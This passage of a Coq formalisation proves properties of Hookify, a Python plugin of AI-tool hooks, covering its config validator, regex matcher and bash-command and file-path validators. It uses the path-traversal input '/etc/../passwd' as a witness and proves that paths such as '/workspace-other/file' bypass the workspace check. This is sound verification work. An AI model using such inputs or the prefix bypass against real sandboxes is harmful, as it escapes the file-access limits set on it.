  ["core/config_loader.py"; "core/rule_engine.py"; "hooks/pretooluse.py"].

Definition hook_scripts : list string :=
  [ "hooks/pretooluse.py"; "hooks/posttooluse.py"; "hooks/stop.py";
    "hooks/userpromptsubmit.py" ].

(** the keys of the dict [validate_all] returns *)
Record results : Type := mkResults {
  valid : bool;
  critical : list ConfigError;
  errors : list ConfigError;
  warnings : list ConfigError
}.

Section Environment.

Variable environ : string -> option string.
Variable isdir : string -> bool.
Variable isfile : string -> bool.
Variable access_x : string -> bool.

Definition validate_environment : list ConfigError :=
  (flat_map
     (fun var =>
        opt (negb (env_truthy (environ var)))
          (mkConfigError var
             ("Required environment variable " ++ var ++ " is not set")
             "critical"
             ("Set " ++ var ++ " in your environment or .env file")))
     REQUIRED_ENV_VARS
   ++ flat_map
        (fun '(var, description) =>
           opt (negb (env_truthy (environ var)))
             (mkConfigError var
                ("Recommended environment variable " ++ var
                 ++ " is not set: " ++ description)
                "warning"
                ("Set " ++ var ++ " for optimal functionality")))
        RECOMMENDED_ENV_VARS)%list.

Definition validate_plugin_structure : list ConfigError :=
  match environ "CLAUDE_PLUGIN_ROOT" with
  | Some plugin_root =>
      if negb (PyStr.truthy plugin_root) then []
      else
        (flat_map
           (fun dir_name =>
              let dir_path := path_join plugin_root dir_name in
              opt (negb (isdir dir_path))
                (mkConfigError ("directory:" ++ dir_name)
                   ("Required directory " ++ dir_name ++ " not found")
                   "error"
                   "Ensure plugin structure is complete"))
           required_dirs
         ++ flat_map
              (fun file_path =>
                 let full_path := path_join plugin_root file_path in
                 opt (negb (isfile full_path))
                   (mkConfigError ("file:" ++ file_path)
                      ("Required file " ++ file_path ++ " not found")
                      "error"
                      "Restore missing file from plugin repository"))
              required_files)%list
  | None => []
  end.

Definition validate_permissions : list ConfigError :=
  match environ "CLAUDE_PLUGIN_ROOT" with
  | Some plugin_root =>
      if negb (PyStr.truthy plugin_root) then []
      else
        flat_map
          (fun script =>
             let script_path := path_join plugin_root script in
             if isfile script_path then
               opt (negb (access_x script_path))
                 (mkConfigError ("permissions:" ++ script)
                    ("Hook script " ++ script ++ " is not executable")
                    "error"
                    ("Run: chmod +x " ++ script_path))
             else [])
          hook_scripts
  | None => []
  end.

(** [[e for e in all_errors if e.severity == level]] *)
Definition with_severity (level : string) (all_errors : list ConfigError)
  : list ConfigError :=
  filter (fun e => String.eqb (severity e) level) all_errors.

Definition all_errors : list ConfigError :=
  (validate_environment ++ validate_plugin_structure
   ++ validate_permissions)%list.

Definition validate_all : results :=
  let critical_errors := with_severity "critical" all_errors in
  let errors := with_severity "error" all_errors in
  let warnings := with_severity "warning" all_errors in
  mkResults
    ((Z.of_nat (List.length critical_errors) =? 0)%Z
     && (Z.of_nat (List.length errors) =? 0)%Z)
    critical_errors errors warnings.

End Environment.

(** [print(text, file=sys.stderr)]: the state is the list of the texts
    printed so far.  The marks of the report are kept as the bytes of
    their UTF-8 encoding. *)
Definition print_stderr_text (text : string) : Py.M (list string) unit :=
  fun printed => (Ret tt, (printed ++ [text])%list).

Local Open Scope py_scope.

(** one section of the report: nothing for an empty list *)
Definition print_section (title mark : string) (entries : list ConfigError)
  : Py.M (list string) unit :=
  Py.when (match entries with [] => false | _ => true end)
    (print_stderr_text title ;;
     Py.for_each entries
       (fun error =>
          print_stderr_text
            ("  " ++ mark ++ " " ++ setting error ++ ": " ++ message error) ;;
          print_stderr_text
            ("    Resolution: " ++ resolution error ++ String (ascii_of_N 10) ""))).

Definition print_validation_report (r : results) : Py.M (list string) unit :=
  print_stderr_text
    (String (ascii_of_N 10) "=== Hookify Configuration Validation ==="
     ++ String (ascii_of_N 10) "") ;;
  (if valid r
   then print_stderr_text
          ("✓ Configuration is valid" ++ String (ascii_of_N 10) "")
   else print_stderr_text
          ("✗ Configuration has errors" ++ String (ascii_of_N 10) "")) ;;
  print_section "CRITICAL ERRORS:" "✗" (critical r) ;;
  print_section "ERRORS:" "✗" (errors r) ;;
  print_section "WARNINGS:" "⚠" (warnings r).

(** the script: validate, report, [sys.exit(0 if results["valid"] else 1)] *)
Definition script (environ : string -> option string)
           (isdir isfile access_x : string -> bool)
  : Py.M (list string) unit :=
  let r := validate_all environ isdir isfile access_x in
  print_validation_report r ;;
  Py.raise (Exn (SystemExit (if valid r then 0 else 1)) "").

(** the exit status and what is on the error stream *)
Definition run_script (environ : string -> option string)
           (isdir isfile access_x : string -> bool) : Z * list string :=
  let (r, printed) := script environ isdir isfile access_x [] in
  (PreToolUse.exit_status r, printed).

End ConfigValidator.

(** ** posixpath *)

Module PosixPath.

Definition is_sep (c : ascii) : bool := Ascii.eqb c "/".

(** [l] without the characters at its start that satisfy [f] *)
Fixpoint drop_while (f : ascii -> bool) (l : list ascii) : list ascii :=
  match l with
  | c :: rest => if f c then drop_while f rest else l
  | [] => []
  end.

(** [os.path.dirname(p)]:
    [i = p.rfind('/') + 1; head = p[:i];
     if head and head != '/' * len(head): head = head.rstrip('/')].
    The characters are taken from the end of [p], so the lists are in
    reverse order until the last step. *)
Definition dirname (p : string) : string :=
  let head :=
    drop_while (fun c => negb (is_sep c)) (rev (list_ascii_of_string p)) in
  string_of_list_ascii
    (rev (if forallb is_sep head then head else drop_while is_sep head)).

End PosixPath.

(** ** pretooluse.py: what runs before [main] *)

Module Script.

Local Open Scope string_scope.
Local Open Scope py_scope.

(** [isinstance(e, ImportError)]: the class, its subclass
    [ModuleNotFoundError], or one of the further subclasses that
    [subclass] tells by their names ([ZipImportError] of [zipimport],
    classes that the imported modules define). *)
Definition is_ImportError (subclass : string -> bool) (e : exn) : bool :=
  match exn_cls e with
  | OtherException name =>
      if String.eqb name "ImportError" then true
      else if String.eqb name "ModuleNotFoundError" then true
      else subclass name
  | _ => false
  end.

(** The search path after the first lines of the script; [plugin_root]
    is what [os.environ.get('CLAUDE_PLUGIN_ROOT')] returned. *)
Definition setup_sys_path (plugin_root : option string)
           (sys_path : list string)
  : list string :=
  match plugin_root with
  | Some root =>
      if PyStr.truthy root then
        let parent_dir := PosixPath.dirname root in
        let sys_path :=
          if existsb (String.eqb parent_dir) sys_path then sys_path
          else parent_dir :: sys_path in
        if existsb (String.eqb root) sys_path then sys_path
        else root :: sys_path
      else sys_path
  | None => sys_path
  end.

Section Run.

Variable Rule : Type.
(** the names of the further subclasses of [ImportError] *)
Variable subclass : string -> bool.
(** the outcome of the three [import] statements *)
Variable imports : result unit.
Variable json_load_stdin : result json.
Variable load_rules : option string -> result (list Rule).
Variable evaluate_rules : list Rule -> json -> result json.
Variable utcnow : nat -> string.

Definition script : Py.M world unit :=
  Py.try_except (Py.lift imports)
    [ (is_ImportError subclass,
       fun e =>
         print_stdout
           (JDict [ ("systemMessage",
                     JStr ("Hookify import error: " ++ exn_msg e));
                    ("error",
                     JDict [ ("type", JStr "ImportError");
                             ("message", JStr (exn_msg e));
                             ("component", JStr "pretooluse") ]) ]) ;;
         PreToolUse.sys_exit 0) ] ;;
  PreToolUse.main Rule json_load_stdin load_rules evaluate_rules utcnow.

Definition run_script : Z * world :=
  let (r, w) := script PreToolUse.initial_world in
  (PreToolUse.exit_status r, w).

End Run.

End Script.

(** ** Vocabulary of the further properties *)

(** no "/" in the name *)
Definition no_slash (name : string) : bool :=
  forallb (fun c => negb (PosixPath.is_sep c)) (list_ascii_of_string name).

(** the subclasses of [ImportError] outside [builtins] that come with
    Python *)
Definition stdlib_import_errors (name : string) : bool :=
  String.eqb name "ZipImportError".

(** no character of [s] is white space *)
Fixpoint no_space (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c rest => negb (PyStr.isspace c) && no_space rest
  end.

(** every match of the pattern takes at least one white-space character *)
Fixpoint needs_space (r : Re.regex) : bool :=
  match r with
  | Re.Space => true
  | Re.Cat r1 r2 => needs_space r1 || needs_space r2
  | Re.Alt r1 r2 => needs_space r1 && needs_space r2
  | Re.Rep (S _) r1 => needs_space r1
  | _ => false
  end.

(** the entries of severity "error" come first, those of severity
    "warning" after them, and there are no others *)
Definition errors_before_warnings (l : list ValidationError) : Prop :=
  exists errors warnings,
    l = errors ++ warnings
    /\ Forall (fun e => severity e = "error"%string) errors
    /\ Forall (fun e => severity e = "warning"%string) warnings.

(** [validate_bash_command] warns of the idiom [description] *)
Definition flagged (command description : string) : Prop :=
  exists l,
    call (InputValidator.validate_bash_command command) = Ret l
    /\ In (Entry.dangerous description) l.

(** the character before the text that follows [pre] *)
Fixpoint prev_after (pre : string) (prev : option ascii) : option ascii :=
  match pre with
  | EmptyString => prev
  | String c rest => prev_after rest (Some c)
  end.

(** the kind of event [main] asks the rules for, from the input dict *)
Definition event_of (input : list (string * json)) : option string :=
  let tool_name :=
    match Json.lookup "tool_name" input with
    | Some x => x
    | None => JStr ""
    end in
  if Json.eq_str tool_name "Bash" then Some "bash"%string
  else if existsb (Json.eq_str tool_name) ["Edit"; "Write"; "MultiEdit"]%string
       then Some "file"%string
       else None.

(** ** Strings of any code points

    [validate_bash_command] once more, on a Python [str] as a list of
    code points of any size.  On the code points 0..255 the classes of
    characters are those of [PyStr]; above, those of the Unicode database
    of the interpreter, taken as tables. *)

Module Wide.

Import Re.
Local Open Scope string_scope.

Definition str : Type := list N.

(** the string of the same characters *)
Definition of_string (s : string) : str :=
  map N_of_ascii (list_ascii_of_string s).

Definition latin1 (x : N) : bool := (x <? 256)%N.

(** The Unicode database above code point 255: white space, word
    characters, which code points a pattern letter matches under
    [re.IGNORECASE], and the lower case of a code point, which can be
    several code points. *)
Record tables : Type := mkTables {
  isspace_above : N -> bool;
  isword_above : N -> bool;
  ignorecase_above : N -> ascii -> bool;
  lower_above : N -> list N
}.

(** [len(s)] *)
Definition len (s : str) : Z := Z.of_nat (List.length s).

Definition truthy (s : str) : bool :=
  match s with [] => false | _ :: _ => true end.

Section Tables.

Variable U : tables.

Definition isspace (x : N) : bool :=
  if latin1 x then PyStr.isspace (ascii_of_N x) else isspace_above U x.

Definition isword (x : N) : bool :=
  if latin1 x then PyStr.isword (ascii_of_N x) else isword_above U x.

(** [s.lower()] *)
Definition lower (s : str) : str :=
  flat_map
    (fun x =>
       if latin1 x then [N_of_ascii (PyStr.tolower (ascii_of_N x))]
       else lower_above U x)
    s.

Definition word_before (prev : option N) : bool :=
  match prev with Some x => isword x | None => false end.

Definition word_here (s : str) : bool :=
  match s with x :: _ => isword x | [] => false end.

Section Matcher.

Variable ignorecase : bool.

(** a literal [c] of the pattern against the code point [x] *)
Definition lit_eqb (c : ascii) (x : N) : bool :=
  if ignorecase then
    if latin1 x
    then Ascii.eqb (PyStr.tolower (ascii_of_N x)) (PyStr.tolower c)
    else ignorecase_above U x c
  else (x =? N_of_ascii c)%N.

Section Repeat.

Variable body : option N -> str -> (option N -> str -> bool) -> bool.
Variable k : option N -> str -> bool.

Fixpoint star (fuel : nat) (p : option N) (t : str) : bool :=
  if k p t then true
  else match fuel with
       | O => false
       | S fuel' =>
           body p t
             (fun p' t' =>
                if (List.length t' <? List.length t)%nat
                then star fuel' p' t'
                else false)
       end.

Fixpoint at_least (n : nat) (p : option N) (t : str) : bool :=
  match n with
  | O => star (List.length t) p t
  | S n' => body p t (at_least n')
  end.

End Repeat.

Fixpoint matches (r : regex) (prev : option N) (s : str)
         (k : option N -> str -> bool) {struct r} : bool :=
  match r with
  | Eps => k prev s
  | Lit c =>
      match s with
      | x :: rest => if lit_eqb c x then k (Some x) rest else false
      | [] => false
      end
  | Dot =>
      match s with
      | x :: rest => if (x =? 10)%N then false else k (Some x) rest
      | [] => false
      end
  | Space =>
      match s with
      | x :: rest => if isspace x then k (Some x) rest else false
      | [] => false
      end
  | WordB =>
      if Bool.eqb (word_before prev) (word_here s) then false else k prev s
  | Cat r1 r2 => matches r1 prev s (fun p t => matches r2 p t k)
  | Alt r1 r2 => if matches r1 prev s k then true else matches r2 prev s k
  | Rep min r1 => at_least (matches r1) k min prev s
  end.

Definition accept : option N -> str -> bool := fun _ _ => true.

Fixpoint search_from (r : regex) (prev : option N) (s : str) : bool :=
  if matches r prev s accept then true
  else match s with
       | [] => false
       | x :: rest => search_from r (Some x) rest
       end.

(** [re.search(r, s, flags) is not None] *)
Definition search (r : regex) (s : str) : bool := search_from r None s.

End Matcher.

Local Open Scope py_scope.

Definition validate_bash_command (command : str) : Py.M heap ref :=
  errors <- new_list ;;
  if negb (truthy command) then
    Py.ret errors
  else
    Py.when (InputValidator.MAX_COMMAND_LENGTH <? len command)%Z
      (append errors
         (mkValidationError "command"
            ("Command exceeds maximum length of "
             ++ PyStr.str_of_int InputValidator.MAX_COMMAND_LENGTH)
            "error")) ;;
    Py.for_each InputValidator.dangerous_patterns
      (fun '(pattern, description) =>
         Py.when (search true pattern command)
           (append errors
              (mkValidationError "command"
                 ("Dangerous pattern detected: " ++ description)
                 "warning"))) ;;
    Py.ret errors.

End Tables.

(** What the database of CPython 3.11 says of three code points above
    255: the capital I with a dot (304) is a letter, matches the pattern
    letter "i" under [re.IGNORECASE], and its lower case is "i" followed
    by the combining dot above (775), which is no word character; the
    long s (383) and the Kelvin sign (8490) are letters that match the
    pattern letters "s" and "k".  Other code points above 255 do not
    occur in the examples. *)
Definition unicode_examples : tables :=
  mkTables
    (fun _ => false)
    (fun x => (x =? 304)%N || (x =? 383)%N || (x =? 8490)%N)
    (fun x c =>
       ((x =? 304)%N && Ascii.eqb (PyStr.tolower c) "i")
       || ((x =? 383)%N && Ascii.eqb (PyStr.tolower c) "s")
       || ((x =? 8490)%N && Ascii.eqb (PyStr.tolower c) "k"))
    (fun x =>
       if (x =? 304)%N then [105; 775]%N
       else if (x =? 8490)%N then [107]%N
       else [x]).

End Wide.

(** the character before, as a code point *)
Definition wide_prev (prev : option ascii) : option N :=
  option_map N_of_ascii prev.

(** [k'] does on a text of code points what [k] does on the string of
    the same characters *)
Definition cont_wide (k : option ascii -> string -> bool)
           (k' : option N -> Wide.str -> bool) : Prop :=
  forall p t, k p t = k' (wide_prev p) (Wide.of_string t).

(** Sixty groups inside one another around the letter "a", a pattern of
    121 characters. *)
Definition nested_pattern : string :=
  string_of_list_ascii
    (repeat "("%char 60 ++ ["a"%char] ++ repeat ")"%char 60).

(** What [re.compile] of CPython 3.11 answers when it is called from
    deep inside the call stack (with the default recursion limit, some
    nine hundred frames down) and the pattern is not in its cache:
    the parser of [nested_pattern] runs out of stack and raises
    [RecursionError].  Called from the top of a script, or once the
    pattern is in the cache of [re], the same call compiles, as
    [re_compile_examples] says. *)
Definition re_compile_deep_stack (pattern : string) : result unit :=
  if String.eqb pattern nested_pattern then
    Raise (Exn RecursionError "maximum recursion depth exceeded")
  else re_compile_examples pattern.

(** no character of [s] is a line break *)
Fixpoint no_newline (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c rest => negb (Ascii.eqb c Re.newline) && no_newline rest
  end.

(** * Properties *)

(** ** The list objects *)

Lemma update_fresh (h : heap) (l : list ValidationError) f :
  update (length h) f (h ++ [l]) = h ++ [f l].
Proof.
  induction h as [|l0 h IH]; simpl; [reflexivity|].
  now rewrite IH.
Qed.

Lemma deref_fresh (h : heap) (l : list ValidationError) :
  deref (length h) (h ++ [l]) = l.
Proof.
  unfold deref. rewrite app_nth2 by lia.
  now rewrite Nat.sub_diag.
Qed.

Lemma append_fresh (h : heap) (l : list ValidationError) x :
  append (length h) x (h ++ [l]) = (Ret tt, h ++ [l ++ [x]]).
Proof.
  unfold append. now rewrite update_fresh.
Qed.

Lemma when_append_fresh (b : bool) (h : heap) (l : list ValidationError) x :
  Py.when b (append (length h) x) (h ++ [l]) = (Ret tt, h ++ [l ++ opt b x]).
Proof.
  destruct b; simpl.
  - apply append_fresh.
  - now rewrite app_nil_r.
Qed.

Lemma In_opt {A} (b : bool) (x y : A) : In y (opt b x) <-> b = true /\ y = x.
Proof.
  destruct b; simpl; intuition congruence.
Qed.

Lemma returns_outcome m l h : returns m l -> outcome_in m h = Ret l.
Proof.
  intros H. unfold outcome_in. rewrite H. now rewrite deref_fresh.
Qed.

Lemma returns_call m l : returns m l -> call m = Ret l.
Proof.
  intros H. exact (returns_outcome m l [] H).
Qed.

Lemma raises_outcome m e h : raises m e -> outcome_in m h = Raise e.
Proof.
  intros H. unfold outcome_in. destruct (H h) as [l ->]. reflexivity.
Qed.

Lemma raises_call m e : raises m e -> call m = Raise e.
Proof.
  intros H. exact (raises_outcome m e [] H).
Qed.

Lemma returns_frame m l h :
  returns m l -> firstn (length h) (heap_after m h) = h.
Proof.
  intros H. unfold heap_after. rewrite H. cbn [snd].
  rewrite firstn_app, Nat.sub_diag, firstn_all. cbn [firstn].
  apply app_nil_r.
Qed.

Lemma raises_frame m e h :
  raises m e -> firstn (length h) (heap_after m h) = h.
Proof.
  intros H. unfold heap_after. destruct (H h) as [l ->]. cbn [snd].
  rewrite firstn_app, Nat.sub_diag, firstn_all. cbn [firstn].
  apply app_nil_r.
Qed.

(** ** What each validator returns *)

Module Returns.

Import InputValidator Builds.

Ltac run_new_list :=
  unfold Py.bind at 1; unfold new_list at 1; cbv beta iota.

Ltac run_when :=
  unfold Py.bind at 1; rewrite when_append_fresh; cbv beta iota.

Lemma validate_file_path_returns (path : string) :
  returns (validate_file_path path) (file_path_errors path).
Proof.
  intros h. unfold validate_file_path, file_path_errors, outside.
  run_new_list.
  destruct (PyStr.truthy path); cbv [negb]; cbv beta iota.
  - do 3 run_when. unfold Py.ret.
    change (PyStr.str_of_int MAX_FILE_PATH_LENGTH) with "4096"%string.
    rewrite <- !app_assoc. reflexivity.
  - unfold Py.bind. rewrite append_fresh. reflexivity.
Qed.

Lemma for_each_flags (command : string) (table : list (Re.regex * string))
      (h : heap) (l : list ValidationError) :
  Py.for_each table
    (fun '(pattern, description) =>
       Py.when (Re.search true pattern command)
         (append (length h)
            (mkValidationError "command"
               ("Dangerous pattern detected: " ++ description)%string
               "warning")))
    (h ++ [l])
  = (Ret tt, h ++ [l ++ flags command table]).
Proof.
  revert l. induction table as [|[pattern description] table IH]; intros l.
  - simpl. now rewrite app_nil_r.
  - cbn [Py.for_each]. run_when. rewrite IH.
    unfold flags. cbn [flat_map fst snd].
    rewrite <- !app_assoc. reflexivity.
Qed.

Lemma validate_bash_command_returns (command : string) :
  returns (validate_bash_command command) (bash_command_errors command).
Proof.
  intros h. unfold validate_bash_command, bash_command_errors.
  run_new_list.
  destruct (PyStr.truthy command); cbv [negb]; cbv beta iota.
  - run_when. unfold Py.bind at 1. rewrite for_each_flags.
    cbv beta iota. unfold Py.ret.
    change (PyStr.str_of_int MAX_COMMAND_LENGTH) with "10000"%string.
    rewrite <- !app_assoc. reflexivity.
  - reflexivity.
Qed.

Lemma validate_text_length_returns (text field_name : string) :
  returns (validate_text_length text field_name)
          (text_length_errors text field_name).
Proof.
  intros h. unfold validate_text_length, text_length_errors.
  run_new_list. run_when. unfold Py.ret.
  change (PyStr.str_of_int MAX_TEXT_LENGTH) with "1000000"%string.
  reflexivity.
Qed.

Section RegexPattern.

Variable re_compile : string -> result unit.

Lemma validate_regex_pattern_returns (pattern : string) :
  escapes re_compile pattern = None ->
  returns (validate_regex_pattern re_compile pattern)
          (regex_pattern_errors re_compile pattern).
Proof.
  intros Hesc h. revert Hesc.
  unfold validate_regex_pattern, regex_pattern_errors, escapes,
    compile_errors.
  run_new_list.
  destruct (PyStr.truthy pattern); cbv [negb]; cbv beta iota;
    [|reflexivity].
  run_when.
  change (PyStr.str_of_int MAX_REGEX_LENGTH) with "500"%string.
  unfold Py.bind at 1, Py.try_except, Py.lift.
  destruct (re_compile pattern) as [[]|e]; cbv beta iota.
  - intros _. run_when. unfold Py.ret.
    rewrite <- !app_assoc. reflexivity.
  - cbn [Py.dispatch].
    destruct (is_class ReError e); [intros _|discriminate].
    rewrite append_fresh. cbv beta iota. run_when. unfold Py.ret.
    rewrite <- !app_assoc. reflexivity.
Qed.

Lemma validate_regex_pattern_raises (pattern : string) (e : exn) :
  escapes re_compile pattern = Some e ->
  raises (validate_regex_pattern re_compile pattern) e.
Proof.
  intros Hesc h. revert Hesc.
  unfold validate_regex_pattern, escapes.
  run_new_list.
  destruct (PyStr.truthy pattern); cbv [negb]; cbv beta iota;
    [|discriminate].
  run_when.
  unfold Py.bind at 1, Py.try_except, Py.lift.
  destruct (re_compile pattern) as [[]|e']; cbv beta iota;
    [discriminate|].
  cbn [Py.dispatch].
  destruct (is_class ReError e'); [discriminate|].
  intros [= ->]. unfold Py.raise. eexists. reflexivity.
Qed.

End RegexPattern.

End Returns.

(** ** Case folding of the matcher *)

Module CaseFold.

Import Re.

Ltac each_char c := destruct c as [[] [] [] [] [] [] [] []]; vm_compute; reflexivity.

Lemma tolower_idem (c : ascii) : PyStr.tolower (PyStr.tolower c) = PyStr.tolower c.
Proof. each_char c. Qed.

Lemma isspace_tolower (c : ascii) : PyStr.isspace (PyStr.tolower c) = PyStr.isspace c.
Proof. each_char c. Qed.

Lemma isword_tolower (c : ascii) : PyStr.isword (PyStr.tolower c) = PyStr.isword c.
Proof. each_char c. Qed.

Lemma newline_tolower (c : ascii) :
  Ascii.eqb (PyStr.tolower c) newline = Ascii.eqb c newline.
Proof. each_char c. Qed.

Lemma length_lower (s : string) : String.length (PyStr.lower s) = String.length s.
Proof.
  induction s as [|c s IH]; simpl; congruence.
Qed.

Lemma lower_idem (s : string) : PyStr.lower (PyStr.lower s) = PyStr.lower s.
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  now rewrite tolower_idem, IH.
Qed.

Lemma len_lower (s : string) : PyStr.len (PyStr.lower s) = PyStr.len s.
Proof.
  unfold PyStr.len. now rewrite length_lower.
Qed.

Lemma truthy_lower (s : string) : PyStr.truthy (PyStr.lower s) = PyStr.truthy s.
Proof.
  now destruct s.
Qed.

Lemma word_before_fold (prev : option ascii) :
  word_before (fold_prev prev) = word_before prev.
Proof.
  destruct prev as [c|]; simpl; [apply isword_tolower|reflexivity].
Qed.

Lemma word_here_lower (s : string) : word_here (PyStr.lower s) = word_here s.
Proof.
  destruct s as [|c s]; simpl; [reflexivity|apply isword_tolower].
Qed.

Section Repeat.

Variables body body' :
  option ascii -> string -> (option ascii -> string -> bool) -> bool.
Variables k k' : option ascii -> string -> bool.

Hypothesis body_fold :
  forall c c', cont_fold c c' ->
  forall p t, body p t c = body' (fold_prev p) (PyStr.lower t) c'.
Hypothesis k_fold : cont_fold k k'.

Lemma star_fold (fuel : nat) : cont_fold (star body k fuel) (star body' k' fuel).
Proof.
  induction fuel as [|fuel IH]; intros p t; simpl.
  - now rewrite (k_fold p t).
  - rewrite (k_fold p t).
    destruct (k' (fold_prev p) (PyStr.lower t)); [reflexivity|].
    apply body_fold. intros p' t'.
    rewrite !length_lower.
    destruct (String.length t' <? String.length t)%nat; [apply IH|reflexivity].
Qed.

Lemma at_least_fold (n : nat) :
  cont_fold (at_least body k n) (at_least body' k' n).
Proof.
  induction n as [|n IH]; intros p t; simpl.
  - rewrite length_lower. apply star_fold.
  - now apply body_fold.
Qed.

End Repeat.

(** Matching with [re.IGNORECASE] is matching the lower-cased text
    exactly, for a pattern whose literals are lower case. *)
Lemma matches_fold (r : regex) :
  lowercase_lits r = true ->
  forall k k', cont_fold k k' ->
  forall prev s,
    matches true r prev s k
    = matches false r (fold_prev prev) (PyStr.lower s) k'.
Proof.
  induction r as [|c| | | |r1 IH1 r2 IH2|r1 IH1 r2 IH2|n r1 IH1];
    intros Hlow k k' Hk prev s; simpl in Hlow |- *.
  - apply Hk.
  - destruct s as [|x s]; simpl; [reflexivity|].
    unfold lit_eqb. apply Ascii.eqb_eq in Hlow. rewrite Hlow.
    rewrite (Hk (Some x) s). reflexivity.
  - destruct s as [|x s]; simpl; [reflexivity|].
    rewrite newline_tolower, (Hk (Some x) s). reflexivity.
  - destruct s as [|x s]; simpl; [reflexivity|].
    rewrite isspace_tolower, (Hk (Some x) s). reflexivity.
  - rewrite word_before_fold, word_here_lower, (Hk prev s). reflexivity.
  - apply andb_prop in Hlow as [H1 H2].
    apply IH1; [exact H1|].
    intros p t. now apply IH2.
  - apply andb_prop in Hlow as [H1 H2].
    rewrite (IH1 H1 k k' Hk prev s), (IH2 H2 k k' Hk prev s). reflexivity.
  - apply at_least_fold; [|exact Hk].
    intros c c' Hc p t. now apply IH1.
Qed.

Lemma search_from_fold (r : regex) :
  lowercase_lits r = true ->
  forall s prev,
    search_from true r prev s
    = search_from false r (fold_prev prev) (PyStr.lower s).
Proof.
  assert (Haccept : cont_fold accept accept) by (intros p t; reflexivity).
  intros Hlow. induction s as [|x s IH]; intros prev; simpl.
  - now rewrite (matches_fold r Hlow accept accept Haccept prev "").
  - rewrite (matches_fold r Hlow accept accept Haccept prev (String x s)).
    rewrite (IH (Some x)). reflexivity.
Qed.

Lemma search_fold (r : regex) (s : string) :
  lowercase_lits r = true ->
  search true r s = search false r (PyStr.lower s).
Proof.
  intros Hlow. unfold search. now rewrite (search_from_fold r Hlow s None).
Qed.

Lemma search_lower (r : regex) (s : string) :
  lowercase_lits r = true ->
  search true r (PyStr.lower s) = search true r s.
Proof.
  intros Hlow. rewrite !search_fold by exact Hlow.
  now rewrite lower_idem.
Qed.

Lemma dangerous_patterns_lowercase :
  forallb (fun entry => lowercase_lits (fst entry))
          InputValidator.dangerous_patterns = true.
Proof. vm_compute. reflexivity. Qed.

Lemma dangerous_pattern_lowercase pattern description :
  In (pattern, description) InputValidator.dangerous_patterns ->
  lowercase_lits pattern = true.
Proof.
  intros Hin.
  pose proof dangerous_patterns_lowercase as H.
  rewrite forallb_forall in H. exact (H _ Hin).
Qed.

Lemma flags_lower (command : string) (table : list (regex * string)) :
  forallb (fun entry => lowercase_lits (fst entry)) table = true ->
  Builds.flags (PyStr.lower command) table = Builds.flags command table.
Proof.
  induction table as [|[pattern description] table IH]; intros H;
    [reflexivity|].
  simpl in H. apply andb_prop in H as [H1 H2].
  unfold Builds.flags in *. cbn [flat_map fst snd].
  rewrite (search_lower pattern command H1). f_equal. now apply IH.
Qed.

End CaseFold.

(** ** The entries of a result *)

Lemma In_flags (e : ValidationError) (command : string)
      (table : list (Re.regex * string)) :
  In e (Builds.flags command table) <->
  exists pattern description,
    In (pattern, description) table
    /\ Re.search true pattern command = true
    /\ e = Entry.dangerous description.
Proof.
  unfold Builds.flags. rewrite in_flat_map. split.
  - intros [[pattern description] [Hin He]]. cbn [fst snd] in He.
    apply In_opt in He as [Hs ->]. now exists pattern, description.
  - intros (pattern & description & Hin & Hs & ->).
    exists (pattern, description). split; [exact Hin|].
    cbn [fst snd]. now apply In_opt.
Qed.

Lemma truthy_false (s : string) : PyStr.truthy s = false -> s = ""%string.
Proof.
  destruct s; [reflexivity|discriminate].
Qed.

Lemma call_validate_file_path (path : string) :
  call (InputValidator.validate_file_path path)
  = Ret (Builds.file_path_errors path).
Proof.
  apply returns_call, Returns.validate_file_path_returns.
Qed.

Lemma call_validate_bash_command (command : string) :
  call (InputValidator.validate_bash_command command)
  = Ret (Builds.bash_command_errors command).
Proof.
  apply returns_call, Returns.validate_bash_command_returns.
Qed.

Lemma call_validate_text_length (text field_name : string) :
  call (InputValidator.validate_text_length text field_name)
  = Ret (Builds.text_length_errors text field_name).
Proof.
  apply returns_call, Returns.validate_text_length_returns.
Qed.

(** * The claims *)

Import InputValidator.

(** What [validate_file_path] does as described: it answers the empty
    path with the one
    error-severity entry "File path cannot be empty"; a path that contains
    ".." gets the error-severity entry "Path traversal detected (..)"; an
    absolute path that does not start with "/workspace" gets the entry
    "Absolute path outside workspace", whose severity is "warning", and
    when such a path has no ".." and is not too long this warning is the
    whole result. *)
Theorem validate_file_path_rejects (path : string) :
  (path = ""%string ->
   call (validate_file_path path) = Ret [Entry.empty_path])
  /\ (PyStr.contains ".." path = true ->
      exists l, call (validate_file_path path) = Ret l
                /\ In Entry.traversal l)
  /\ (PyStr.startswith path "/" = true ->
      PyStr.startswith path "/workspace" = false ->
      exists l, call (validate_file_path path) = Ret l
                /\ In Entry.outside_workspace l
                /\ (PyStr.contains ".." path = false ->
                    PyStr.len path <= MAX_FILE_PATH_LENGTH ->
                    l = [Entry.outside_workspace]))
  /\ severity Entry.empty_path = "error"%string
  /\ severity Entry.traversal = "error"%string
  /\ severity Entry.outside_workspace = "warning"%string.
Proof.
  rewrite call_validate_file_path. unfold Builds.file_path_errors.
  repeat split.
  - intros ->. reflexivity.
  - intros Hdots. eexists. split; [reflexivity|].
    destruct path as [|c path]; [discriminate|]. cbn [PyStr.truthy].
    rewrite Hdots. apply in_or_app. right. now left.
  - intros Hroot Hws. eexists. split; [reflexivity|].
    destruct path as [|c path]; [discriminate|]. cbn [PyStr.truthy].
    unfold Builds.outside. rewrite Hroot, Hws. cbn [negb andb opt].
    split.
    + apply in_or_app. right. apply in_or_app. right. now left.
    + intros Hdots Hlen. rewrite Hdots.
      apply Z.ltb_ge in Hlen. rewrite Hlen. reflexivity.
Qed.

Lemma validate_file_path_rejects_witness :
  exists l, call (validate_file_path "/etc/../passwd") = Ret l
            /\ In Entry.traversal l.
Proof.
  exact (proj1 (proj2 (validate_file_path_rejects "/etc/../passwd"))
               eq_refl).
Defined.

(** C1. The test for "outside the workspace" misses the directories
    beside it: a path that begins with the characters "/workspace" is
    never given the warning "Absolute path outside workspace", whatever
    follows them.  Such a path, "/workspace-other/file" for one, without
    ".." and of at most 4096 characters, is an absolute path outside the
    directory /workspace and yet returns the empty list. *)
Theorem validate_file_path_misses_what_lies_beside_the_workspace
        (rest : string) :
  PyStr.contains ".." ("/workspace" ++ rest) = false ->
  PyStr.len ("/workspace" ++ rest) <= MAX_FILE_PATH_LENGTH ->
  call (validate_file_path ("/workspace" ++ rest)) = Ret [].
Proof.
  intros Hdots Hlen. rewrite call_validate_file_path.
  unfold Builds.file_path_errors, Builds.outside.
